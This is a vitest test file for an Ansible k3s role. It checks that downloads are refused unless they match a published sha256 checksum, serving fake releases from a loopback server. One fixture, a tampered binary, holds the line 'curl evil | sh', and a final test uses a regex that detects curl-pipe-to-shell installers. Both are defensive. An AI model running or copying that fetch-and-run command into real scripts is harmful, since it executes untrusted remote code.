// The k3s role's checksum gate, for real: its download tasks (tasks_from: download) run with
// ansible-playbook -c local against a temporary install folder, fetching a fake "release" (a small
// file and its sha256sum-amd64.txt) from a loopback HTTP server started here. A good checksum
// installs; a wrong one fails before anything is installed; a second run changes nothing.
// k3s itself is not run: this host has no kubelet-capable environment (docs/kubernetes.md).
import { createHash } from 'node:crypto';
import { existsSync, lstatSync, mkdtempSync, readFileSync, readlinkSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { ANSIBLE_DIR } from '../src/core/repo.ts';
import { runPlaybook } from '../src/tools/ansible.ts';

const dir = mkdtempSync(join(tmpdir(), 'asd-k3s-role-'));
const GOOD = '#!/bin/sh\necho "fake k3s v9.9.9+k3s1"\n';
const sha = (s: string) => createHash('sha256').update(s).digest('hex');
// One release per folder: what /<release>/k3s serves and what its checksum file says.
const RELEASES: Record<string, { binary: string; sums: string }> = {
  good: { binary: GOOD, sums: `${sha('other')}  k3s-airgap-images-amd64.tar\n${sha(GOOD)}  k3s\n` },
  // The binary was replaced (or corrupted) after the checksums were published.
  tampered: { binary: `${GOOD}curl evil | sh\n`, sums: `${sha(GOOD)}  k3s\n` },
  // A new release whose published binary was swapped on the server.
  newer: { binary: `${GOOD}# swapped\n`, sums: `${sha(`${GOOD}# v9.9.10\n`)}  k3s\n` },
  // A checksum file that does not name the binary.
  nameless: { binary: GOOD, sums: `${sha(GOOD)}  k3s-arm64\n` },
};
const requests: string[] = [];
let server: Server;
let base = '';

beforeAll(async () => {
  server = createServer((req, res) => {
    requests.push(req.url ?? '');
    const [, release, file] = /^\/([^/]+)\/(.+)$/.exec(req.url ?? '') ?? [];
    const r = release ? RELEASES[release] : undefined;
    const body = !r ? undefined : file === 'k3s' ? r.binary : file === 'sha256sum-amd64.txt' ? r.sums : undefined;
    res.writeHead(body === undefined ? 404 : 200, { 'content-type': 'application/octet-stream' });
    res.end(body ?? 'not found');
  });
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  writeFileSync(
    join(dir, 'inventory.ini'),
    `here ansible_connection=local ansible_python_interpreter=${process.env.ANSIBLE_PYTHON ?? '/usr/bin/python3'}\n`,
  );
});

afterAll(async () => {
  await new Promise((done) => server.close(done));
  rmSync(dir, { recursive: true, force: true });
});

/** Runs the role's download entry point with the release `release`, installing into `<dir>/<name>/bin`. */
async function download(name: string, release: string, extra: Record<string, unknown> = {}) {
  const play = join(dir, `${name}.yml`);
  const vars = {
    k3s_version: 'v9.9.9+k3s1',
    k3s_release_url: `${base}/${release}`,
    k3s_install_dir: join(dir, name, 'bin'),
    k3s_stage_dir: join(dir, name, 'stage'),
    k3s_download_timeout: 10,
    ...extra,
  };
  writeFileSync(
    play,
    [
      `- name: k3s download ${name}`,
      '  hosts: all',
      '  gather_facts: false',
      '  become: false',
      '  tasks:',
      `    - ansible.builtin.file: {path: ${JSON.stringify(vars.k3s_install_dir)}, state: directory, mode: "0755"}`,
      '    - ansible.builtin.include_role: {name: k3s, tasks_from: download}',
      `      vars: ${JSON.stringify(vars)}`,
      '',
    ].join('\n'),
  );
  const before = requests.length;
  const r = await runPlaybook({
    inventoryFile: join(dir, 'inventory.ini'),
    playbook: play,
    logFile: join(dir, `${name}.jsonl`),
    extraEnv: { ANSIBLE_BECOME: 'False', NO_PROXY: '127.0.0.1', no_proxy: '127.0.0.1' },
  });
  return { ...r, bin: vars.k3s_install_dir, stage: vars.k3s_stage_dir, requests: requests.slice(before) };
}

describe('role k3s: the binary is checked against the release sha256 file before it is installed', () => {
  it('a good checksum installs the binary and its links; a second run changes nothing', async () => {
    const r = await download('good', 'good');
    expect(r.ok, JSON.stringify(r.failedTasks)).toBe(true);
    expect(readFileSync(join(r.bin, 'k3s'), 'utf8')).toBe(GOOD);
    expect((lstatSync(join(r.bin, 'k3s')).mode & 0o777).toString(8)).toBe('755');
    for (const link of ['kubectl', 'crictl', 'ctr']) expect(readlinkSync(join(r.bin, link))).toBe(join(r.bin, 'k3s'));
    expect(r.requests).toEqual(['/good/sha256sum-amd64.txt', '/good/k3s']);
    expect(existsSync(join(r.stage, 'k3s-v9.9.9+k3s1'))).toBe(false);
    expect(r.changedTasks.here?.some((t) => t.endsWith('Install the checked binary'))).toBe(true);

    const again = await download('good', 'good');
    expect(again.ok).toBe(true);
    expect(again.stats.here?.changed).toBe(0);
    // Idempotent without downloading the binary again: only the checksums are read.
    expect(again.requests).toEqual(['/good/sha256sum-amd64.txt']);
  }, 120_000);

  it('a wrong checksum fails before anything is installed, and leaves nothing staged', async () => {
    const r = await download('tampered', 'tampered');
    expect(r.ok).toBe(false);
    const failed = Object.values(r.failedTasks).flat().join('\n');
    expect(failed).toMatch(/refused unless its sha256 is the published one/);
    expect(failed).toMatch(/checksum/i);
    expect(r.requests).toEqual(['/tampered/sha256sum-amd64.txt', '/tampered/k3s']);
    expect(existsSync(join(r.bin, 'k3s'))).toBe(false);
    expect(existsSync(join(r.bin, 'kubectl'))).toBe(false);
    expect(existsSync(join(r.stage, 'k3s-v9.9.9+k3s1'))).toBe(false);
  }, 120_000);

  it('a tampered release does not replace a good binary already installed', async () => {
    const first = await download('upgrade', 'good');
    expect(first.ok).toBe(true);
    // Same install folder, another "version" whose binary does not match its checksums.
    const r = await download('upgrade', 'newer', { k3s_version: 'v9.9.10+k3s1' });
    expect(r.ok).toBe(false);
    expect(readFileSync(join(r.bin, 'k3s'), 'utf8')).toBe(GOOD);
  }, 120_000);

  it('a checksum file that does not name the binary, or disagrees with a pinned digest, stops before the download', async () => {
    const nameless = await download('nameless', 'nameless');
    expect(nameless.ok).toBe(false);
    expect(Object.values(nameless.failedTasks).flat().join('\n')).toMatch(/names the binary k3s 0 times/);
    expect(nameless.requests).toEqual(['/nameless/sha256sum-amd64.txt']);
    const pinned = await download('pinned', 'good', { k3s_expected_sha256: sha('something else') });
    expect(pinned.ok).toBe(false);
    expect(Object.values(pinned.failedTasks).flat().join('\n')).toMatch(/not the pinned k3s_expected_sha256/);
    expect(pinned.requests).toEqual(['/good/sha256sum-amd64.txt']);
    expect(existsSync(join(pinned.bin, 'k3s'))).toBe(false);
  }, 120_000);

  it('its typed arguments refuse another architecture before any request', async () => {
    const r = await download('arm', 'good', { k3s_arch: 'arm64' });
    expect(r.ok).toBe(false);
    expect(Object.values(r.failedTasks).flat().join('\n')).toMatch(/k3s_arch.*amd64/s);
    expect(r.requests).toEqual([]);
  }, 120_000);

  it('its service files render (config.yaml is YAML with the node address in the certificate; the unit starts k3s server) and the defaults pass the main argument spec', async () => {
    const out = join(dir, 'service');
    const play = join(dir, 'service.yml');
    const role = join(ANSIBLE_DIR, 'roles/k3s');
    writeFileSync(
      play,
      [
        '- name: k3s service files',
        '  hosts: all',
        '  gather_facts: false',
        '  become: false',
        '  vars_files: [' + JSON.stringify(join(role, 'defaults/main.yml')) + ']',
        '  vars: {lab_ip: 10.100.128.13}',
        '  tasks:',
        `    - ansible.builtin.file: {path: ${JSON.stringify(out)}, state: directory, mode: "0755"}`,
        '    - name: The defaults pass the typed arguments of the main entry point',
        '      ansible.builtin.validate_argument_spec:',
        `        argument_spec: "{{ (lookup('file', '${role}/meta/argument_specs.yml') | from_yaml).argument_specs.main.options }}"`,
        `    - ansible.builtin.template: {src: ${JSON.stringify(join(role, 'templates/config.yaml.j2'))}, dest: ${JSON.stringify(join(out, 'config.yaml'))}, mode: "0600"}`,
        `    - ansible.builtin.template: {src: ${JSON.stringify(join(role, 'templates/k3s.service.j2'))}, dest: ${JSON.stringify(join(out, 'k3s.service'))}, mode: "0644"}`,
        '',
      ].join('\n'),
    );
    const r = await runPlaybook({
      inventoryFile: join(dir, 'inventory.ini'),
      playbook: play,
      logFile: join(dir, 'service.jsonl'),
      extraEnv: { ANSIBLE_BECOME: 'False' },
    });
    expect(r.ok, JSON.stringify(r.failedTasks)).toBe(true);
    const config = parse(readFileSync(join(out, 'config.yaml'), 'utf8')) as Record<string, unknown>;
    expect(config).toMatchObject({
      'node-name': 'here',
      'node-ip': '10.100.128.13',
      'tls-san': ['127.0.0.1', 'localhost', '10.100.128.13'],
      'write-kubeconfig-mode': '0600',
      'secrets-encryption': true,
    });
    const unit = readFileSync(join(out, 'k3s.service'), 'utf8');
    expect(unit).toMatch(/^Type=notify$/m);
    expect(unit).toMatch(/^ExecStart=\/usr\/local\/bin\/k3s server$/m);
    expect(unit).toMatch(/^Delegate=yes$/m);
    expect(unit).toMatch(/^KillMode=process$/m);
  }, 120_000);

  it('pins a release of the Kubernetes minor version the manifests are validated against, from its GitHub release URL', () => {
    const d = parse(readFileSync(join(ANSIBLE_DIR, 'roles/k3s/defaults/main.yml'), 'utf8')) as Record<string, string>;
    expect(d.k3s_version).toMatch(/^v1\.33\.\d+\+k3s\d+$/);
    expect(d.k3s_release_url).toBe("https://github.com/k3s-io/k3s/releases/download/{{ k3s_version | replace('+', '%2B') }}");
    // No installer script piped into a shell anywhere in the role.
    for (const f of ['tasks/main.yml', 'tasks/download.yml', 'tasks/service.yml'])
      expect(readFileSync(join(ANSIBLE_DIR, 'roles/k3s', f), 'utf8')).not.toMatch(/get\.k3s\.io|\|\s*(ba)?sh\b/);
  });
});
